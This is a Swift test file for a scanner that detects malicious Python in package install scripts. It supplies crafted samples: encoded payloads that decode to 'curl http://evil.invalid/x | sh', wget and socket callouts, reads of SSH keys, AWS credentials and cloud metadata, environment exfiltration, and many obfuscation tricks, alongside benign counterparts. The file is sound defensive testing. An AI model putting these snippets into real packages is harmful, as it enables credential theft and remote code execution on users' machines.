import Foundation
import Testing

@testable import AlterKit
@testable import PythonCodeAnalysis

/// One crafted snippet per signal and evasion, each with the finding it must raise; benign twins raise nothing.
@Suite struct CodeAnalyzerTests {
    static let zlibPayload = "eJzLzC3ILypRyC/myi/WK64sLknN1VBKLi3KUcgoKSmw0tdPLcvM0cvMK0vMyUzRr1CoUSjOUNLkAgA01BMt"
    static let base64Payload = "aW1wb3J0IG9zCm9zLnN5c3RlbSgiY3VybCBodHRwOi8vZXZpbC5pbnZhbGlkL3ggfCBzaCIpCg=="
    static let hexPayload =
        "696d706f7274206f730a6f732e73797374656d28226375726c20687474703a2f2f6576696c2e696e76616c69642f78207c20736822290a"

    func install(_ source: String) -> CodeAnalysis {
        CodeAnalyzer().analyze(
            source: Array(source.utf8), file: "setup.py", topPhase: .install, functionPhase: .install)
    }

    func library(_ source: String) -> CodeAnalysis {
        CodeAnalyzer().analyze(
            source: Array(source.utf8), file: "pkg/mod.py", topPhase: .importTime, functionPhase: .callTime)
    }

    struct Case: Sendable, CustomTestStringConvertible {
        var name: String
        var source: String
        var kind: InspectionFinding.Kind
        var severity: Severity
        var line: Int
        var testDescription: String { name }
    }

    static let installCases: [Case] = [
        Case(
            name: "aliased module", source: "import os as o\no.system('id')", kind: .process, severity: .medium, line: 2
        ),
        Case(
            name: "from-import alias", source: "from os import system as s\ns('curl http://x.invalid | sh')",
            kind: .process, severity: .critical, line: 2),
        Case(
            name: "star import", source: "from subprocess import *\nPopen(['ls', '/'])", kind: .process,
            severity: .medium, line: 2),
        Case(
            name: "assigned function", source: "import os\nf = os.system\nf('id')", kind: .process, severity: .medium,
            line: 3),
        Case(
            name: "getattr builtins concat", source: "code = 'print(1)'\ngetattr(__builtins__, 'ex' + 'ec')(code)",
            kind: .obfuscation, severity: .critical, line: 2),
        Case(
            name: "__import__ concat", source: "__import__('o' + 's').system('id')", kind: .obfuscation,
            severity: .critical, line: 1),
        Case(
            name: "__import__ concat still resolves",
            source: "m = __import__('sub' + 'process')\nm.check_output(['whoami'])",
            kind: .process, severity: .medium, line: 2),
        Case(
            name: "globals exec of literal code",
            source: "globals()['exec']('import os; os.system(\"curl https://x.invalid\")')",
            kind: .process, severity: .critical, line: 1),
        Case(
            name: "globals built name", source: "k = 'ex'\nk += 'ec'\nglobals()[k]('x = 1')", kind: .obfuscation,
            severity: .critical, line: 3),
        Case(
            name: "exec base64", source: "import base64\nexec(base64.b64decode('\(base64Payload)'))",
            kind: .execDecoded,
            severity: .critical, line: 2),
        Case(
            name: "decoded payload is analysed",
            source: "from base64 import b64decode as d\nexec(d('\(base64Payload)'))",
            kind: .process, severity: .critical, line: 2),
        Case(
            name: "exec zlib of base64",
            source: "import zlib, base64\nexec(zlib.decompress(base64.b64decode(\"\(zlibPayload)\")))",
            kind: .process, severity: .critical, line: 2),
        Case(
            name: "exec hex", source: "exec(bytes.fromhex('\(hexPayload)').decode())", kind: .execDecoded,
            severity: .critical, line: 1),
        Case(
            name: "exec rot13", source: "import codecs\neval(codecs.decode('vzcbeg bf; bf.flfgrz(\"vq\")', 'rot13'))",
            kind: .execDecoded, severity: .critical, line: 2),
        Case(
            name: "exec marshal", source: "import marshal\nexec(marshal.loads(blob))", kind: .execDecoded,
            severity: .critical, line: 2),
        Case(
            name: "decoded through a variable",
            source: "import base64\np = base64.b64decode(x)\nc = p.decode()\nexec(c)",
            kind: .execDecoded, severity: .critical, line: 4),
        Case(
            name: "compile of decoded", source: "import lzma\nexec(compile(lzma.decompress(d), '<x>', 'exec'))",
            kind: .execDecoded, severity: .critical, line: 2),
        Case(
            name: "chr join name",
            source: "import os\nn = ''.join(chr(c) for c in [115, 121, 115, 116, 101, 109])\ngetattr(os, n)('id')",
            kind: .obfuscation, severity: .critical, line: 3),
        Case(
            name: "map chr name",
            source: "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('id')",
            kind: .process, severity: .medium, line: 2),
        Case(
            name: "reversed name", source: "import os\ngetattr(os, 'metsys'[::-1])('id')", kind: .obfuscation,
            severity: .critical, line: 2),
        Case(
            name: "urlopen", source: "from urllib.request import urlopen\nurlopen('https://x.invalid/p')",
            kind: .network,
            severity: .critical, line: 2),
        Case(
            name: "requests", source: "import requests as r\nr.post(u, data=d)", kind: .network, severity: .critical,
            line: 2),
        Case(
            name: "socket", source: "import socket\ns = socket.socket()\ns.connect(('1.2.3.4', 4444))", kind: .network,
            severity: .critical, line: 2),
        Case(
            name: "exec of download", source: "import urllib.request as u\nexec(u.urlopen(x).read())",
            kind: .execDecoded,
            severity: .critical, line: 2),
        Case(
            name: "ssh key", source: "import os\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()",
            kind: .credentials,
            severity: .critical, line: 2),
        Case(
            name: "aws env", source: "import os\nk = os.environ['AWS_SECRET_ACCESS_KEY']", kind: .credentials,
            severity: .critical, line: 2),
        Case(
            name: "token getenv", source: "from os import getenv\nt = getenv('GITHUB_TOKEN')", kind: .credentials,
            severity: .critical, line: 2),
        Case(
            name: "pathlib home credentials",
            source: "from pathlib import Path\nd = (Path.home() / '.aws' / 'credentials').read_text()",
            kind: .credentials, severity: .critical, line: 2),
        Case(
            name: "cloud metadata", source: "import requests\nrequests.get('http://169.254.169.254/latest/meta-data/')",
            kind: .credentials, severity: .critical, line: 2),
        Case(
            name: "environment exfiltration",
            source: "import os, json, requests\nd = json.dumps(dict(os.environ))\nrequests.post(u, d)",
            kind: .credentials, severity: .critical, line: 2),
        Case(
            name: "bashrc append",
            source: "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')",
            kind: .writeOutside, severity: .critical, line: 2),
        Case(
            name: "absolute write", source: "open('/opt/tools/x.sh', 'w').write(s)", kind: .writeOutside,
            severity: .high,
            line: 1),
        Case(
            name: "pth into site-packages",
            source: "import site, os\np = os.path.join(site.getsitepackages()[0], 'z.pth')\nopen(p, 'w')",
            kind: .writeOutside, severity: .critical, line: 3),
        Case(
            name: "shutil copy home",
            source: "import shutil, os\nshutil.copy('x', os.path.join(os.environ['HOME'], '.profile'))",
            kind: .writeOutside, severity: .critical, line: 2),
        Case(
            name: "callback", source: "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()",
            kind: .process, severity: .medium, line: 2),
        Case(
            name: "python -c payload",
            source:
                "import sys, subprocess\nsubprocess.Popen([sys.executable, '-c', 'import urllib.request as u; u.urlopen(\"https://x.invalid\")'])",
            kind: .network, severity: .critical, line: 2),
        Case(
            name: "custom command class",
            source:
                "from setuptools.command.install import install\nclass I(install):\n    def run(self):\n        import os; os.system('wget http://x.invalid/a')\n",
            kind: .process, severity: .critical, line: 4),
        Case(
            name: "percent format download", source: "import os\nos.system('curl %s | bash' % url)", kind: .process,
            severity: .critical, line: 2),
        Case(
            name: "exec unknown", source: "exec(something)", kind: .execDynamic, severity: .medium, line: 1),
        Case(
            name: "pip install from setup", source: "import os\nos.system('pip install helper-pkg')", kind: .process,
            severity: .high, line: 2),
        Case(
            name: "import_module", source: "import importlib\nimportlib.import_module('subprocess').run(['id'])",
            kind: .process, severity: .medium, line: 2),
        Case(
            name: "os.execv", source: "import os\nos.execv('/bin/sh', ['sh', '-c', 'id'])", kind: .process,
            severity: .medium, line: 2),
        Case(
            name: "os.popen", source: "import os as _o\n_o.popen('uname -a').read()", kind: .process, severity: .medium,
            line: 2),
        Case(
            name: "http.client", source: "import http.client\nc = http.client.HTTPSConnection('x.invalid')",
            kind: .network, severity: .critical, line: 2),
        Case(
            name: "sys.modules lookup", source: "import sys\nsys.modules['o' + 's'].system('id')", kind: .obfuscation,
            severity: .critical, line: 2),
        Case(
            name: "vars builtins", source: "vars(__builtins__)['ev' + 'al']('1')", kind: .obfuscation,
            severity: .critical,
            line: 1),
        Case(
            name: "nested getattr import", source: "getattr(getattr(__builtins__, '__import__')('os'), 'system')('id')",
            kind: .process, severity: .medium, line: 1),
        Case(
            name: "eval of reversed join", source: "eval(''.join(reversed(')\"di\"(metsys.)\"so\"(__tropmi__')))",
            kind: .execDecoded, severity: .critical, line: 1),
        Case(
            name: "netrc", source: "import os\nopen(os.path.join(os.environ['HOME'], '.netrc')).read()",
            kind: .credentials,
            severity: .critical, line: 2),
        Case(
            name: "pickle of decoded", source: "import pickle, base64\npickle.loads(base64.b64decode(x))",
            kind: .execDecoded,
            severity: .critical, line: 2),
    ]

    @Test(arguments: installCases)
    func installTimeSignal(_ c: Case) {
        let findings = install(c.source).findings
        let hit = findings.first { $0.kind == c.kind }
        #expect(hit != nil, "no \(c.kind) in \(findings)")
        #expect(hit?.severity == c.severity, "\(String(describing: hit))")
        #expect(hit?.line == c.line)
        #expect(hit?.file == "setup.py")
        #expect(hit?.evidence.isEmpty == false)
    }

    @Test func encodedBlobIsMediumAtInstallAndLowInLibraries() {
        let blob = String(repeating: "QUJDRGVmZ2g0NTY3", count: 40)
        #expect(install("X = '\(blob)'").findings.first?.severity == .medium)
        #expect(library("X = '\(blob)'").findings.map(\.severity) == [.low])
        // One that decodes to Python source is worse.
        let code = Data(String(repeating: "import os; os.system('id')\n", count: 20).utf8).base64EncodedString()
        let strong = install("P = \"\"\"\(code)\"\"\"").findings.first
        #expect(strong?.kind == .encodedBlob)
        #expect(strong?.severity == .high)
        #expect(strong?.evidence.contains("Python source") == true)
    }

    @Test func execOfAFileIsHandedToTheInspector() {
        let a = install(
            """
            import os
            here = os.path.abspath(os.path.dirname(__file__))
            about = {}
            with open(os.path.join(here, 'pkg', '__version__.py')) as f:
                exec(f.read(), about)
            exec(open('data/blob.dat').read())
            """)
        #expect(a.findings.isEmpty, "\(a.findings)")
        #expect(a.executedFiles.map(\.path.rest) == ["pkg/__version__.py", "data/blob.dat"])
        #expect(a.executedFiles.map(\.line) == [5, 6])
    }

    @Test func importsAreRecordedForFollowing() {
        let a = install(
            "import build_helpers.x as bh\nfrom . import util\nfrom pkg.sub import thing, other\n__import__('_hook')")
        #expect(a.imports.map(\.module) == ["build_helpers.x", "", "pkg.sub", "_hook"])
        #expect(a.imports[1].level == 1)
        #expect(a.imports[2].names == ["thing", "other"])
    }

    @Test func commandClassesAreNoted() {
        let a = install("from setuptools import setup\nsetup(name='x',\n      cmdclass={'install': I})")
        #expect(a.commandClassLines == [2])
    }

    // MARK: Benign twins

    @Test(arguments: [
        // Library code using processes, the network and credentials inside functions: how libraries work.
        "import subprocess\ndef status():\n    return subprocess.run(['git', 'status'], capture_output=True)\n",
        "import requests\ndef fetch(u):\n    return requests.get(u, timeout=5).json()\n",
        "import os\ndef creds():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n",
        // six's compatible exec and dynamic handlers: literal names are not obfuscation.
        "import builtins\nexec_ = getattr(builtins, 'exec')\ndef handler(self, name):\n    return getattr(self, 'handle_' + name)\n",
        // attrs-style generated code, compiled and evaluated inside a function.
        "def make(script, globs):\n    eval(compile(script, '<attrs generated init>', 'exec'), globs)\n",
        "API_KEY = __import__('os').environ.get('OPENAI_API_KEY')\n",
        "import base64\nICON = base64.b64decode('iVBORw0KGgo=')\n",
        // A cache read back from disk is how pickle is used.
        "import pickle, zlib\ncache = pickle.loads(zlib.decompress(open('cache.pkz', 'rb').read()))\n",
        // A script's main block does not run on import.
        "import pty, sys, urllib.request\nif __name__ == '__main__':\n    pty.spawn(sys.argv[1:])\n"
            + "    urllib.request.urlopen(sys.argv[2])\n",
        "import pty, sys\nif sys.platform != 'win32' and __name__ == '__main__':\n    def r(fd):\n        return 1\n"
            + "    pty.spawn(sys.argv[1:], r)\n",
        // A long list of words, one per line, is not an encoded blob.
        "OPCODES = set('''\n" + (0..<200).map { "opcode\($0)Name" }.joined(separator: "\n") + "\n'''.split())\n",
    ])
    func libraryCodeIsQuiet(_ source: String) {
        #expect(library(source).findings.isEmpty, "\(library(source).findings)")
    }

    @Test func libraryImportTimeNetworkIsHigh() {
        let f = library("import urllib.request\nurllib.request.urlopen('https://x.invalid/beacon')\n").findings
        #expect(f.map(\.kind) == [.network])
        #expect(f.first?.severity == .high)
        #expect(f.first?.phase == .importTime)
        let obfuscated = library("import base64\ndef f():\n    exec(base64.b64decode(P))\n").findings
        #expect(obfuscated.first?.kind == .execDecoded)
        #expect(obfuscated.first?.severity == .high)
    }

    @Test func mocksAndScratchFilesAreNotCapabilities() {
        let tests = library(
            "import httpx, subprocess\nfrom unittest import mock\n@mock.patch.object(httpx.Client, 'send')\n"
                + "@mock.patch.object(subprocess.Popen, 'wait')\ndef test_x(m, n):\n    pass\n")
        #expect(tests.findings.isEmpty, "\(tests.findings)")
        let scratch = install(
            "import tempfile, os\nd = tempfile.mkdtemp()\nopen(os.path.join(d, 'probe.c'), 'w').write('int main(){}')\n"
        )
        #expect(scratch.findings.isEmpty, "\(scratch.findings)")
    }

    @Test func ordinarySetupIsQuiet() {
        let a = install(
            """
            import os, sys, subprocess
            from setuptools import setup, Extension
            here = os.path.dirname(os.path.abspath(__file__))
            env = os.environ.copy()
            env['CFLAGS'] = '-O2'
            version = subprocess.check_output(['git', 'describe', '--tags']).decode().strip()
            subprocess.check_call(['cmake', '--build', '.'], env=env)
            with open(os.path.join(here, 'README.md'), encoding='utf-8') as f:
                long_description = f.read()
            setup(name='pkg', version=version, long_description=long_description,
                  ext_modules=[Extension('pkg._c', ['src/c.c'])])
            """)
        #expect(a.findings.allSatisfy { $0.severity <= .medium }, "\(a.findings)")
        #expect(a.findings.allSatisfy { $0.kind == .process })
        #expect(!a.findings.isEmpty)
    }

    @Test func evidenceIsTheSourceLine() {
        let f = install("x = 1\nimport os; os.system('id')  # run\n").findings
        #expect(f.first?.evidence.contains("os.system('id')") == true)
        #expect(f.first?.location == "setup.py:2")
    }
}
